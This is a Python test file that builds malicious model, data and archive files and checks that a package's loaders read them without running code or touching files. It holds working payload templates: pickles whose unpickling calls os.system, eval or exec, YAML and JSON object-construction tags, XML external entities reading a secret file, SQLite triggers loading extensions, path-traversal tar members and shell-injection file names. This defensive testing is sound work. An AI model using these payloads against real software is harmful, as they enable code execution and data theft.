"""Test files that try to run code, read or write other files, or use the network: they leave no trace."""

from __future__ import annotations

import builtins
import contextlib
import functools
import hashlib
import io
import json
import os
import pickle
import runpy
import sqlite3
import subprocess
import sys
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import torch

from keypoint_attacks import small_database
from matfiles import HEADER, variable
from mutations import RECORDS, STACK
from own_files import write_inverter
from paths import ROOT
from preimage.spec import Spec
from preimage.store import write_features

SECRET = "canary-secret"
COMMAND = "touch pwned"
EVIL_CODE = "open('pwned', 'w').close()"


class Call:
    """An object whose unpickling calls a function."""

    def __init__(self, function: Callable[..., object], *arguments: object) -> None:
        self._reduced = function, arguments

    def __reduce__(self) -> tuple[Callable[..., object], tuple[object, ...]]:
        return self._reduced


class Global:
    """A function that need not exist here, pickled by its name."""

    def __init__(self, module: str, name: str) -> None:
        self.module, self.name = module, name

    def opcodes(self, *arguments: object) -> bytes:
        values = b"".join(pickle.dumps(one, 0)[:-1] for one in arguments)
        return f"c{self.module}\n{self.name}\n".encode() + b"(" + values + b"tR"


PICKLES: dict[str, bytes] = {
    name: pickle.dumps({"conv1.weight": call}, 2)
    for name, call in {
        "os.system": Call(os.system, COMMAND),
        "eval": Call(builtins.eval, "__import__('os').system('touch pwned')"),
        "exec": Call(builtins.exec, EVIL_CODE),
        "import": Call(builtins.__import__, "preimage_evil"),
        "subprocess": Call(subprocess.Popen, ["touch", "pwned"]),
        "runpy": Call(runpy.run_path, "preimage_evil.py"),
        "open": Call(builtins.open, "pwned", "w"),
        "getattr": Call(getattr, Call(builtins.__import__, "os"), "system"),
        "partial": Call(functools.partial, os.system, COMMAND),
        "torch.hub": Call(torch.hub.load, "evil/repository", "model"),
        "torch.load": Call(torch.load, "inner.pth", "cpu", None),
        "pickle in a pickle": Call(pickle.loads, pickle.dumps(Call(os.system, COMMAND))),
    }.items()
}
PICKLES |= {
    "a name of another module": Global("preimage_evil", "function").opcodes() + b".",
    "operator": b"\x80\x02" + Global("operator", "attrgetter").opcodes("system") + b".",
    "numpy": b"\x80\x02" + Global("numpy.testing._private.utils", "runstring").opcodes(EVIL_CODE, {}) + b".",
    "state": b"\x80\x02ctorch.nn.modules.module\nModule\n)\x81}X\x04\x00\x00\x00evil}sb.",
    "persistent id": b"\x80\x02(X\x07\x00\x00\x00storagecos\nsystem\nX\x01\x00\x00\x000X\x03\x00\x00\x00cpuK\x01tQ.",
}


def torch_archive(path: Path, data: bytes) -> None:
    """Write what `torch.save` writes, with another pickle."""
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in {"data.pkl": data, "byteorder": b"little", "data/0": bytes(64), "version": b"3\n"}.items():
            archive.writestr(f"archive/{name}", content)


def object_array(data: bytes) -> bytes:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\n"
    return b"\x93NUMPY\1\0" + (118).to_bytes(2, "little") + header + data


def numpy_archive(path: Path, members: dict[str, bytes]) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)


def write_pickles(folder: Path) -> None:
    for number, data in enumerate(PICKLES.values()):
        torch_archive(folder / f"archive-{number}.pth", data)
        (folder / f"plain-{number}.pt").write_bytes(data)
        (folder / f"other-{number}.bin").write_bytes(data)
        legacy = b"".join(pickle.dumps(value, 2) for value in (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True}))
        (folder / f"legacy-{number}.ckpt").write_bytes(legacy + data + pickle.dumps([], 2))
        (folder / f"objects-{number}.npy").write_bytes(object_array(data))
        members = {"a.npy": object_array(data), "keys.npy": object_array(data), "allow_pickle.npy": object_array(data)}
        numpy_archive(folder / f"objects-{number}.npz", members)
        (folder / f"pickle-{number}.npy").write_bytes(data)
        (folder / f"disguised-{number}.safetensors").write_bytes(data)


def write_matlab(folder: Path) -> None:
    """Write objects, function handles and opaque classes, which MATLAB would load with code."""
    for kind in (1, 2, 3, 16, 17, 18):
        for compress in (False, True):
            data = variable((2, 2, 31), COMMAND.encode() * 100, kind=kind, compress=compress)
            (folder / f"class-{kind}-{compress}.mat").write_bytes(HEADER + data)


def write_hdf5(folder: Path) -> None:
    h5py = pytest.importorskip("h5py")
    secret = folder / "secret.h5"
    with h5py.File(secret, "w") as file:
        file["a/features"] = STACK[0]
        file["a/features"].attrs["note"] = SECRET
    virtual = h5py.VirtualLayout((31, 2, 3), "<f4")
    virtual[:] = h5py.VirtualSource(str(secret), "a/features", (31, 2, 3))
    text = np.array([pickle.dumps(Call(os.system, COMMAND), 0).decode()], object)
    crafted: dict[str, Callable[[Any], object]] = {
        "external-link": lambda file: file.__setitem__("a", h5py.ExternalLink(str(secret), "/a")),
        "soft-link": lambda file: file.__setitem__("a", h5py.SoftLink("/a")),
        "virtual": lambda file: file.create_virtual_dataset("a/features", virtual),
        "storage": lambda file: file.create_dataset("a/features", (31, 2, 3), "<f4", external=[("secret.h5", 0, 744)]),
        "objects": lambda file: file.create_dataset("a/features", data=text, dtype=h5py.string_dtype()),
        "reference": lambda file: file.create_dataset("a/features", data=[file.ref], dtype=h5py.ref_dtype),
        "named-type": lambda file: file.__setitem__("a", np.dtype("<f4")),
    }
    for name, make in crafted.items():
        with h5py.File(folder / f"{name}.h5", "w") as file:
            make(file)


def write_texts(folder: Path) -> None:
    start = "%YAML:1.0\n---\n"
    entity = '<!DOCTYPE a [<!ENTITY x SYSTEM "file://{}">]>'.format(folder / "secret.txt")
    texts = {
        "python.yml": start + f'keypoints: !!python/object/apply:os.system ["{COMMAND}"]\n',
        "new.yml": start + f"keypoints: !!python/object/new:os.system [{COMMAND}]\n",
        "anchors.yml": start + "a: &a [1]\n" + "".join(f"b{i}: &b{i} [*a, *a]\n" for i in range(99)) + "keypoints: *b9",
        "external.xml": f'<?xml version="1.0"?>{entity}<opencv_storage><keypoints>&x;</keypoints></opencv_storage>',
        "include.xml": '<?xml version="1.0"?><opencv_storage xmlns:xi="http://www.w3.org/2001/XInclude"><keypoints>'
        f'<xi:include href="{folder / "secret.txt"}" parse="text"/></keypoints></opencv_storage>',
        "deep.json": '{"keypoints": ' + "[" * 200_000,
        "number.json": '{"keypoints": [' + "9" * 1_000_000 + "]}",
        "python.json": json.dumps({"py/object": "os.system", "keypoints": {"py/reduce": [COMMAND]}}),
        "lines.sift": f"$({COMMAND}) `{COMMAND}` | {COMMAND}\n",
        "secret.txt": SECRET,
    }
    for name, text in texts.items():
        (folder / name).write_text(text)


def write_databases(folder: Path) -> None:
    attacks = {
        "trigger": "CREATE TRIGGER t AFTER INSERT ON images BEGIN SELECT load_extension('evil'); END",
        "view": "DROP TABLE images; CREATE VIEW images AS SELECT 1 AS image_id, load_extension('evil') AS name, 1 AS c",
        "computed": "DROP TABLE images; CREATE TABLE images (image_id INTEGER PRIMARY KEY, camera_id, "
        "name AS (hex(zeroblob(9))))",
        "name": f"UPDATE images SET name = '../{COMMAND}' WHERE image_id = 1",
    }
    for name, statements in attacks.items():
        path = small_database(folder / f"{name}.db")
        with contextlib.closing(sqlite3.connect(path)) as database:
            database.executescript(statements)


def write_archives(folder: Path) -> None:
    names = ("/etc/pwned.jpg", "../pwned.jpg", "a/../../pwned.jpg", "C:\\pwned.jpg", "|touch pwned;.jpg")
    kinds = (tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.CHRTYPE, tarfile.FIFOTYPE)
    for number, (name, kind) in enumerate((name, kind) for name in names for kind in (tarfile.REGTYPE, *kinds)):
        with tarfile.open(folder / f"{number}.tar", "w") as archive:
            member = tarfile.TarInfo(name)
            member.type, member.linkname, member.size = kind, str(folder / "secret.txt"), 5
            archive.addfile(member, io.BytesIO(b"12345"))


def write_own(folder: Path) -> None:
    """Write files of the package that name code: in the spec, and as the format of weights."""
    spec = Spec("torch:preimage_evil:network", "v", 31, 8)
    write_features(folder / "code", spec, RECORDS)
    (folder / "spec.json").write_text(spec.to_json())
    write_inverter(folder, "config.json")
    text = (folder / "inverter" / "config.json").read_text().replace('"hog"', '"torch:preimage_evil:network"')
    (folder / "inverter" / "config.json").write_text(text.replace('"u-shaped"', '"preimage_evil.Network"'))
    overlap = {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}
    header = json.dumps({"__metadata__": {"format": "preimage_evil"}, "a": overlap, "b": overlap}).encode()
    (folder / "overlap.safetensors").write_bytes(len(header).to_bytes(8, "little") + header + bytes(16))


@pytest.fixture(scope="module")
def readings(tmp_path_factory: pytest.TempPathFactory) -> list[dict[str, Any]]:
    """Return what reading the files did, each twice; the files are in the current folder of the process."""
    folder = tmp_path_factory.mktemp("malicious")
    for write in (write_pickles, write_matlab, write_texts, write_databases, write_archives, write_own):
        write(folder)
    with contextlib.suppress(pytest.skip.Exception):
        write_hdf5(folder)
    (folder / "preimage_evil.py").write_text(EVIL_CODE)
    torch.save(Call(os.system, COMMAND), folder / "inner.pth")
    homes = {name: tmp_path_factory.mktemp(name) for name in ("HOME", "TMPDIR", "XDG_CACHE_HOME")}
    output = tmp_path_factory.mktemp("output")
    before = contents(folder)
    environment = os.environ | {name: str(home) for name, home in homes.items()} | {"READ_ANYTHING_OUTPUT": str(output)}
    path = os.pathsep.join(filter(None, (str(folder), os.environ.get("PYTHONPATH"))))
    environment |= {"PYTHONPATH": path, "PYTHONDONTWRITEBYTECODE": "1", "OMP_NUM_THREADS": "1"}
    files = sorted(str(path) for path in folder.iterdir() if path.name != "preimage_evil.py")
    command = [sys.executable, str(ROOT / "tests" / "helpers" / "read_anything.py"), *files]
    done = subprocess.run(command, check=False, env=environment, cwd=folder, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    assert contents(folder) == before, "a file was written, changed or removed"
    assert not any(list(home.iterdir()) for home in homes.values())
    assert SECRET not in done.stdout + done.stderr
    lines = [json.loads(line) for line in done.stdout.splitlines()]
    assert len(lines) == 2 * len(files) > 200
    return lines


def contents(folder: Path) -> dict[str, str]:
    files = (path for path in folder.rglob("*") if path.is_file())
    return {str(path): hashlib.sha256(path.read_bytes()).hexdigest() for path in files}


def test_no_malicious_file_leaves_a_trace(readings: list[dict[str, Any]]) -> None:
    assert [(one["path"], one["events"]) for one in readings if one["events"]] == []


def test_malicious_files_are_rejected_with_documented_errors(readings: list[dict[str, Any]]) -> None:
    errors = [
        (Path(one["path"]).name, name, error)
        for one in readings
        for name, error in one["errors"].items()
        if error is not None and error.startswith("unexpected")
    ]
    assert errors == []


def test_the_watch_sees_code(tmp_path: Path) -> None:
    """The process that watches would report code, if a reader ran it."""
    script = (
        "import os, sys; sys.path.insert(0, sys.argv[1]); import read_anything as r; watch = r.Watch(); "
        "watch.imports_are_expected = False; os.system('true'); exec('1'); open('pwned', 'w').close(); "
        "import pickle; pickle.loads(pickle.dumps(os.getcwd)); print(len(watch.events))"
    )
    command = [sys.executable, "-c", script, str(ROOT / "tests" / "helpers")]
    environment = os.environ | {"READ_ANYTHING_OUTPUT": str(tmp_path / "output")}
    done = subprocess.run(command, env=environment, cwd=tmp_path, capture_output=True, text=True, check=True)
    assert int(done.stdout) >= 4
